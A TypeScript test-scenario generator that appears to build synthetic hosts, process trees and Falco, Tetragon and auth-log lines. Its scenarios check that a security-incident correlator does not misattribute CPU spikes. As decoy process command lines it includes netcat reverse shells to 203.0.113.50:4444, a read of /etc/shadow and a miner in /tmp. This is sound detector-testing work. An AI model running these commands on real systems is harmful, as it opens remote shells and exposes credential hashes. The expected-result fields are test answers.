import { authLine, falcoAlert, tetragonExec, tetragonExit } from './formats';
import { burst } from './host';
import type { Builder } from './world';
import { MINUTE } from './world';

/** The kinds that must give no correlated incident, whatever alerts and spikes they contain. */

const BACKUPS = [
  { name: 'restic', exe: '/usr/bin/restic', cmdline: 'restic backup /var/lib/postgresql /etc --tag nightly' },
  { name: 'borg', exe: '/usr/bin/borg', cmdline: 'borg create --compression zstd,10 ::nightly-{now} /srv /etc' },
  { name: 'pigz', exe: '/usr/bin/pigz', cmdline: 'pigz -p 4 /backup/db.sql' },
  { name: 'duplicity', exe: '/usr/bin/duplicity', cmdline: 'duplicity /srv file:///mnt/backup' },
];

const SUDO_COMMANDS = [
  '/usr/bin/systemctl restart nginx',
  '/usr/bin/tail -n 100 /var/log/syslog',
  '/usr/bin/journalctl -u backup.service',
  '/usr/bin/apt-get update',
  '/usr/bin/vim /etc/hosts',
];

export const backupWithSudo: Builder = (world, rng) => {
  const backup = rng.pick(BACKUPS);
  const cron = world.host.processes.find((p) => p.name === 'cron');
  world.process({
    ppid: cron?.pid ?? 1,
    name: backup.name,
    exe: backup.exe,
    cmdline: backup.cmdline,
    owner: 'root',
    start: world.spikeStart - rng.between(1_000, 5_000),
    end: world.spikeEnd,
    load: burst(0.02, Math.max(0.8, world.host.cpus * rng.between(0.3, 0.8)), world.spikeStart, world.spikeEnd),
  });
  const admin = rng.pick(['alice', 'bob', 'ops-oncall', 'deploy']);
  const command = rng.pick(SUDO_COMMANDS);
  const sudoAt = world.spikeStart + rng.between(30_000, 5 * MINUTE);
  const shell = world.process({
    ppid: 1,
    name: 'bash',
    exe: '/usr/bin/bash',
    cmdline: '-bash',
    owner: admin,
    start: sudoAt - 10 * MINUTE,
    load: () => 0.001,
  });
  const sudo = world.process({
    ppid: shell.pid,
    name: 'sudo',
    exe: '/usr/bin/sudo',
    cmdline: `sudo ${command}`,
    owner: 'root',
    start: sudoAt,
    end: sudoAt + rng.between(1_000, 45_000),
    load: () => 0.01,
  });
  world.addFalco(
    sudoAt + 200,
    falcoAlert({
      time: sudoAt + 200,
      rule: rng.pick(['Sudo Potential Privilege Escalation', 'Non sudo setuid', 'User mgmt binaries']),
      priority: rng.pick(['Critical', 'Warning', 'Notice']),
      host: world.host.name,
      process: sudo,
      parent: shell,
      withPid: rng.chance(0.5),
      message: 'Privilege escalation via sudo',
      tags: ['host', 'users', 'mitre_privilege_escalation', 'T1548.003'],
    }),
  );
  const tty = `pts/${rng.int(0, 4)}`;
  world.auth.push({
    time: sudoAt,
    line: authLine(
      sudoAt,
      world.host.name,
      'sudo',
      undefined,
      `   ${admin} : TTY=${tty} ; PWD=/home/${admin} ; USER=root ; COMMAND=${command}`,
    ),
  });
  world.auth.push({
    time: sudoAt,
    line: authLine(
      sudoAt,
      world.host.name,
      'sudo',
      undefined,
      `pam_unix(sudo:session): session opened for user root(uid=0) by ${admin}(uid=1000)`,
    ),
  });
  return {
    description: `backup ${backup.name} drives CPU while ${admin} runs sudo ${command}`,
    expect: { correlated: false, neverCulprit: ['sudo', 'bash'], anomaly: 'cpu' },
  };
};

export const alertNoSpike: Builder = (world, rng) => {
  const at = world.spikeStart + rng.between(0, 5 * MINUTE);
  const variant = rng.pick([
    {
      name: 'cat',
      exe: '/usr/bin/cat',
      cmdline: 'cat /etc/shadow',
      rule: 'Read sensitive file untrusted',
      priority: 'Warning' as const,
    },
    {
      name: 'nc',
      exe: '/usr/bin/nc.openbsd',
      cmdline: 'nc -e /bin/sh 203.0.113.50 4444',
      rule: 'Netcat Remote Code Execution in Container',
      priority: 'Critical' as const,
    },
    {
      name: 'xmrig',
      exe: '/tmp/xmrig',
      cmdline: '/tmp/xmrig --version',
      rule: 'Detect crypto miners using the Stratum protocol',
      priority: 'Critical' as const,
    },
  ]);
  const process = world.process({
    ppid: 1,
    name: variant.name,
    exe: variant.exe,
    cmdline: variant.cmdline,
    owner: 'ubuntu',
    start: at,
    end: at + 2_000,
    load: () => 0.02,
  });
  for (const time of world.alertTimes(at + 100, rng.int(1, 4))) {
    world.addFalco(
      time,
      falcoAlert({
        time,
        rule: variant.rule,
        priority: variant.priority,
        host: world.host.name,
        process,
        withPid: rng.chance(0.5),
        message: 'Suspicious activity',
      }),
    );
  }
  return {
    description: `${variant.rule} on ${variant.name} with flat CPU`,
    expect: { correlated: false },
  };
};

export const jvmBusy: Builder = (world, rng) => {
  const peak = Math.max(1, world.host.cpus * rng.between(0.4, 0.8));
  const java = world.process({
    ppid: 1,
    name: 'java',
    exe: '/usr/lib/jvm/java-17-openjdk-amd64/bin/java',
    cmdline: '/usr/lib/jvm/java-17-openjdk-amd64/bin/java -Xmx4g -XX:+UseG1GC -jar /opt/orders/orders.jar',
    owner: 'orders',
    load: burst(0.15 * world.host.cpus * 0.3, peak, world.spikeStart, world.spikeEnd, 30_000),
  });
  // Routine process starts seen by Tetragon: context, never evidence.
  for (let i = 0; i < 6; i += 1) {
    const at = world.window.from + rng.between(0, world.window.to - world.window.from);
    const routine = world.process({
      ppid: 1,
      name: 'logrotate',
      exe: '/usr/sbin/logrotate',
      cmdline: '/usr/sbin/logrotate /etc/logrotate.conf',
      owner: 'root',
      start: at,
      end: at + 800,
      load: () => 0.05,
    });
    world.tetragon.push({ time: at, line: tetragonExec(world.host.name, routine) });
  }
  return {
    description: `JVM busy phase to ${peak.toFixed(1)} cores (pid ${java.pid}), no security evidence`,
    expect: { correlated: false, anomaly: 'cpu' },
  };
};

export const pidReuse: Builder = (world, rng) => {
  const { interval } = world.window;
  const gapMinutes = rng.between(3, 7);
  // The short-lived process lives between two scrapes, so no metric ever shows it.
  const scrapeBefore =
    world.window.from + Math.floor((world.spikeStart - gapMinutes * MINUTE - world.window.from) / interval) * interval;
  const shortStart = scrapeBefore + 1_000;
  const pid = world.pid();
  const shortLived = world.process({
    pid,
    ppid: 1,
    name: rng.pick(['nc', 'curl', 'wget']),
    exe: '/usr/bin/nc.openbsd',
    cmdline: 'nc 203.0.113.50 4444 -e /bin/sh',
    owner: 'www-data',
    start: shortStart,
    end: shortStart + rng.between(1_000, Math.min(6_000, interval - 2_500)),
    load: () => 0.01,
  });
  shortLived.exe = `/usr/bin/${shortLived.name}`;
  world.addFalco(
    shortStart + 300,
    falcoAlert({
      time: shortStart + 300,
      rule: rng.pick([
        'Redirect STDOUT/STDIN to Network Connection in Container',
        'Netcat Remote Code Execution in Container',
      ]),
      priority: 'Critical',
      host: world.host.name,
      process: shortLived,
      withPid: true,
      message: 'Suspicious network tool launched',
    }),
  );
  if (rng.chance(0.5)) {
    world.tetragon.push({ time: shortLived.start, line: tetragonExec(world.host.name, shortLived) });
    const end = shortLived.end ?? shortLived.start;
    world.tetragon.push({ time: end, line: tetragonExit(world.host.name, shortLived, undefined, end) });
  }
  const job = rng.pick([
    {
      name: 'ffmpeg',
      exe: '/usr/bin/ffmpeg',
      cmdline: 'ffmpeg -i /srv/media/in.mov -c:v libx264 -preset slow /srv/media/out.mp4',
    },
    { name: 'python3', exe: '/usr/bin/python3.11', cmdline: 'python3 /opt/reports/monthly.py --all' },
    { name: 'make', exe: '/usr/bin/make', cmdline: 'make -j4 all' },
  ]);
  const reuser = world.process({
    pid,
    ppid: 1,
    ...job,
    owner: 'app',
    start: world.spikeStart - 2_000,
    end: world.spikeEnd,
    load: burst(0, Math.max(0.9, world.host.cpus * rng.between(0.4, 0.8)), world.spikeStart, world.spikeEnd),
  });
  return {
    description: `alert on short-lived ${shortLived.name} (pid ${pid}); ${gapMinutes.toFixed(1)} min later ${reuser.name} reuses the pid and spikes`,
    expect: { correlated: false, neverCulprit: [shortLived.name], anomaly: 'cpu' },
  };
};
